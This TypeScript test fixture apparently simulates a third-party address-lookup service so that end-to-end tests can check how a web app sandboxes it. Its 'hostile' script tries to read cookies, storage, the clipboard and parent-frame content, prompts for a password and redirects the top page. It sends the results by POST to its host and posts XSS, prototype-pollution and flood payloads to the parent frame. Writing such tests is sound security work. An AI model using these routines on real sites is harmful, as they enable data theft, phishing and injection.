/*
 * What the stand-in of the address service sends a browser: look-alikes of its three scripts, which list two addresses
 * below the box and pass on the one that is chosen, and a hostile script. Written as text, because the real ones are
 * third-party code.
 */

export const sheet =
  '.look-alike{border:1px solid #212b32;margin:0;padding:0;list-style:none}.look-alike button{font:inherit}'

/** Loqate lists addresses below a box and calls its listeners. `lines` names the address lines. */
const control = (lines: string): string => `
const places = [
  { Line1: 'Flat 2', Line2: 'Orchard House', Line3: '1 Orchard Close', City: 'Sampletown', Province: 'Exampleshire', PostalCode: 'ZZ9 9ZZ', Label: 'never passed on' },
  { Line1: 'Lodge', Line2: 'Orchard Close', City: 'Sampletown', PostalCode: 'ZZ9 9ZZ' },
]
const named = (place) => Object.fromEntries(Object.entries(place).map(([name, value]) => [(${lines})(name), value]))
class LookAlike {
  constructor(element) {
    this.hearers = []
    const box = document.getElementById(element)
    const list = document.createElement('ul')
    list.className = 'look-alike'
    box.after(list)
    box.addEventListener('input', () => {
      list.replaceChildren(...(box.value === '' ? [] : places).map((place) => {
        const item = document.createElement('li')
        const button = document.createElement('button')
        button.type = 'button'
        button.textContent = place.Line1 + ', ' + place.City
        button.onclick = () => this.hearers.forEach((hear) => hear(named(place)))
        item.append(button)
        return item
      }))
    })
  }
  listen(event, hear) { if (event === 'populate') this.hearers.push(hear) }
}`
const asItStands = '(name) => name'

/** Capture+ creates its control itself. */
export const capturePlus = `(() => {${control(asItStands)}
const control = new LookAlike('address-search')
window.capturePlus = { listen: (event, hear) => event === 'load' ? hear(control) : control.listen(event, hear) }
})()`

export const pcaAddress = `(() => {${control(asItStands)}
window.pca = { fieldMode: { SEARCH: 1 }, Address: class extends LookAlike {
  constructor(fields, options) { super(fields[0].element); if (!options.key) throw new Error('No key') }
} }
})()`

export const captureModule = `${control(`(name) => name[0].toLowerCase() + name.slice(1)`)}
export const FieldMode = { SEARCH: 1 }
export class Capture extends LookAlike {
  constructor(fields, options) { super(fields[0].element); if (!options.key) throw new Error('No key') }
}`

/**
 * Tries to read data outside the frame and to navigate the user away, and reports each result to the stand-in. When
 * something is typed into its box, it sends the page whatever the page's address requests by ?odd (see
 * e2e/address.spec.ts).
 */
export const hostile = `(async () => {
const home = new URL(document.currentScript.src).origin
const tell = (name, outcome) => fetch(home + '/told', { method: 'POST', body: name + ': ' + outcome })
const tries = {
  'session storage': () => JSON.stringify(sessionStorage),
  'local storage': () => JSON.stringify(localStorage),
  'cookies': () => document.cookie,
  'databases': () => new Promise((done, fail) => { const request = indexedDB.open('surefoot'); request.onsuccess = () => done('opened'); request.onerror = () => fail(request.error) }),
  'caches': async () => (await caches.keys()).join(),
  'storage of the page around': () => JSON.stringify(parent.sessionStorage),
  'document of the page around': () => parent.document.body.innerHTML,
  'document of the top': () => top.document.title,
  'address of the page around': () => parent.location.href,
  'its own frame': () => frameElement && frameElement.outerHTML,
  'opener': () => opener && opener.document.title,
  'leading the top away': () => { top.location = home + '/led-away'; return 'led' },
  'leading the page around away by a link': () => { const link = document.createElement('a'); link.href = home + '/led-away'; link.target = '_top'; document.body.append(link); link.click(); return 'clicked' },
  'another window': () => { const other = open(home + '/led-away'); if (!other) throw new Error('none'); return 'opened' },
  'a question': () => { if (prompt('Your password?') === null) throw new Error('not asked'); return 'asked' },
  'a form': () => { const form = document.createElement('form'); form.action = home + '/led-away'; document.body.append(form); form.submit(); return 'sent' },
  'another script': () => new Promise((done, fail) => { const script = document.createElement('script'); script.src = location.origin + '/assets/none.js'; script.onload = () => done('ran'); script.onerror = () => fail(new Error('blocked')); document.head.append(script) }),
  'text as code': () => new Function('return "ran"')(),
  'a call of the service': async () => (await fetch(location.origin + '/api/user/profile')).status,
  'another frame': () => new Promise((done, fail) => { const frame = document.createElement('iframe'); frame.src = location.origin + '/falls'; frame.onload = () => { try { done(frame.contentDocument.title) } catch (error) { fail(error) } }; document.body.append(frame); setTimeout(() => fail(new Error('nothing')), 1000) }),
  'a worker': () => new Promise((done, fail) => { const worker = new Worker('data:text/javascript,postMessage(1)'); worker.onmessage = () => done('ran'); worker.onerror = () => fail(new Error('blocked')) }),
  'the clipboard': async () => navigator.clipboard.readText(),
  'news between tabs': () => new Promise((done, fail) => { const channel = new BroadcastChannel('surefoot.session'); channel.onmessage = ({ data }) => done(JSON.stringify(data)); setTimeout(() => fail(new Error('silence')), 500) }),
}
for (const [name, attempt] of Object.entries(tries)) {
  try { await tell(name, 'got ' + String(await attempt())) } catch (error) { await tell(name, 'refused ' + error.name) }
}
await tell('done', '')
const good = { addressLine1: 'Hostile House', addressLine2: '', addressLine3: '', town: '', county: '', postcode: '' }
const odd = {
  huge: [{ address: { ...good, addressLine1: 'x'.repeat(50_000_000) } }],
  html: [{ address: { ...good, addressLine1: '<img src=x onerror=alert(1)>' } }],
  'control characters': [{ address: { ...good, town: 'a\\u0000b' } }],
  'wrong types': [null, 7, 'text', [], {}, { address: null }, { address: { ...good, town: 7 } }, { address: [good] }],
  'more than lines': [{ address: { ...good, deceasedDate: '2026-01-01' } }, { address: good, nhsNumber: '1' }, { address: { town: 'x' } }],
  prototype: [{ address: JSON.parse('{"__proto__":{"town":"x"},"addressLine1":"x"}') }],
  flood: Array.from({ length: 100_000 }, (_, number) => ({ address: { ...good, town: number } })),
  good: [{ address: good }],
}
const say = () => (odd[document.getElementById('address-search').value] || []).forEach((each) => parent.postMessage(each, '*'))
document.getElementById('address-search').addEventListener('input', say)
document.getElementById('said').textContent = 'Hostile script is ready'
})()
// Looks like the real one.
window.capturePlus = { listen: () => undefined }`
